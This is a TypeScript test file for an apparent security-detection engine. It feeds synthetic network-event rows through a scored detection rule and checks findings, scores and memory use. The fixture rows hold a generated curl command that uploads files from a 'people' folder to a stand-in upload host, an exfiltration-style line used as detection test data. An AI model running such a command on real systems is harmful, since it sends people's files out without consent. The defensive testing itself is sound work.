import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { Engine } from '../engine/engine.ts';
import { Lake } from '../lake/lake.ts';
import { readRule } from '../rules/readRule.ts';
import { deviceNetworkEvents, weirSchema } from '../tables/index.ts';
import { conditionsOf } from './conditions.ts';
import { Evidence } from './evidence.ts';
import { findingsOf } from './findings.ts';
import { tellApart } from './members.ts';
import { ruleQuery } from './ruleQuery.ts';
import { runAtMoments } from './runRule.ts';
import { scoresOf } from './score.ts';
import { withScratchLake } from './scratchLake.ts';
import { sumUp } from './stories.ts';

const start = 639_000_000_000_000_000n;
const second = 10_000_000n;
const rule = readRule(
  'rules/example.yaml',
  `id: 11111111-2222-4333-8444-555555555555
name: Example
description: An example.
severity: High
queryFrequency: 5m
queryPeriod: 15m
triggerOperator: gt
triggerThreshold: 0
kind: Scheduled
query: DeviceNetworkEvents | where EvidenceTime > ago(15m)
weir:
  finding:
    key: [DeviceName, InitiatingProcessFileName]
    quiet: 1h
  score:
    base: 30
    add:
      - because: it is seen for the first time
        points: 10
        when: OwnDays == 0
      - because: from where it does not belong
        points: 30
        when: FolderPath endswith "17"
      - because: files of people and of nothing else
        points: 5
        when: CommandLines has "people" and not(CommandLines has "nightly")
`,
);

const names = [
  ...['EvidenceTime', 'Timestamp', 'DeviceName', 'EventId', 'InitiatingProcessFileName', 'InitiatingProcessFolderPath'],
  ...['InitiatingProcessCommandLine', 'RemoteHost', 'RegistrableDomain', 'BytesSent'],
];

/** Connections of one program, of which the first sent most; `i` is a row's number. */
const rows = (many: number, { folder, line }: { readonly folder: string; readonly line: string }) => `
  SELECT ${start} + i * ${second} AS "EvidenceTime", ${start} + i * ${second} AS "Timestamp", 'ws-1' AS "DeviceName",
    'weirtest-0000-0000-0000-' || i AS "EventId", 'curl.exe' AS "InitiatingProcessFileName",
    ${folder} AS "InitiatingProcessFolderPath", ${line} AS "InitiatingProcessCommandLine",
    'upload-' || i || '.files.example' AS "RemoteHost", 'files.example' AS "RegistrableDomain",
    1000000 - i AS "BytesSent"
  FROM range(${many}) AS t(i)`;

async function evidenceOf(lake: Lake, many: number) {
  const query = ruleQuery(rule, weirSchema);
  const evidence = await Evidence.create(lake.engine, rule.weir.finding.key, []);
  const moments = { first: start, last: start + BigInt(many + 3_000) * second, frequency: 300n * second };
  await runAtMoments(lake.engine, rule, query, moments, evidence, { onRuns: () => undefined });
  return query.tables;
}

const asked = (...conditions: string[]) => conditions.map((when) => ({ id: when, rules: null, when }));

test('a story of which each row has a command line and a host of its own is told within little memory', async () => {
  const many = 20_000;
  await withScratchLake(async (lake) => {
    const line = `'curl -d @C:\\people\\' || i || '.txt https://upload-' || i || '.files.example/'`;
    await lake.append(deviceNetworkEvents, rows(many, { folder: `'C:\\Windows'`, line }), names);
    const all = ['RemoteHost endswith ".files.example"', 'CommandLines has "people"'];
    const conditions = asked(...all, 'RemoteHost != "upload-19999.files.example"', 'not(CommandLines has "19999")');
    const tables = await evidenceOf(lake, many);
    const [found] = await findingsOf(lake.engine, rule, { tables, conditions, growth: false, keeping: true });
    expect(found?.finding).toMatchObject({ connections: many, score: 45, evidence: { count: many } });
    expect(found?.holds).toEqual(all);
    expect(found?.toKeep?.facets.length).toBe(50);
  }, 256);
});

test('a story whose rows differ in more ways than are looked at is told by those that say most, and not excused', async () => {
  const many = 20_001;
  await withScratchLake(async (lake) => {
    const folder = `'C:\\d' || i`;
    await lake.append(deviceNetworkEvents, rows(many, { folder, line: `'nightly people'` }), names);
    const tables = await evidenceOf(lake, many);
    // What one asks for does not tell rows apart of which another asks less.
    const conditions = asked('RemoteHost endswith ".example"', 'CommandLines has "nightly"');
    const some = { id: 'some', rules: null, when: 'FolderPath == "C:\\\\elsewhere"', some: true };
    const told = { tables, conditions: [...conditions, some], growth: false };
    const [found] = await findingsOf(lake.engine, rule, told);
    expect(found?.holds).toEqual(['CommandLines has "nightly"', 'some']);
    expect(found?.finding.score).toBe(70);
    expect(found?.finding.reasons).toContain(
      'its rows differ in more ways than are looked at: scored by those that say most',
    );
  });
});

test('where there is no memory to tell how rows differ, the story is told as a whole, and not excused', async () => {
  const many = 20_000;
  const directory = await mkdtemp(join(tmpdir(), 'weir-facets-'));
  const engine = await Engine.open({ memoryMb: 2_000, threads: 1, spillDirectory: '' });
  try {
    const lake = await Lake.create(engine, join(directory, 'lake'));
    const folder = `'C:\\' || repeat(i || '\\', 3000 // length(i::VARCHAR || ' '))`;
    await lake.append(deviceNetworkEvents, rows(many, { folder, line: `'nightly people'` }), names);
    const tables = await evidenceOf(lake, many);
    const { key, quiet } = rule.weir.finding;
    await tellApart(engine, key, tables, { quiet, period: null });
    const stories = await sumUp(engine, 'detect_members', { lists: true });
    const [used] = await engine.rows<{ mb: bigint }>(
      'SELECT (sum(memory_usage_bytes) // 1000000)::BIGINT AS mb FROM duckdb_memory()',
    );
    await engine.run(`SET memory_limit = '${Number(used?.mb) + 30}MB'`);
    const scored = [...(await scoresOf(stories, rule)).values()];
    expect(scored).toMatchObject([{ score: 40 }]);
    expect(scored[0]?.reasons).toContain(
      'its rows differ in more ways than are looked at: scored by those that say most',
    );
    const conditions = asked('FolderPath startswith "C:"', 'CommandLines has "nightly"');
    expect([...(await conditionsOf(stories, rule, conditions)).values()]).toEqual([['CommandLines has "nightly"']]);
  } finally {
    engine.close();
    await rm(directory, { recursive: true, force: true });
  }
});
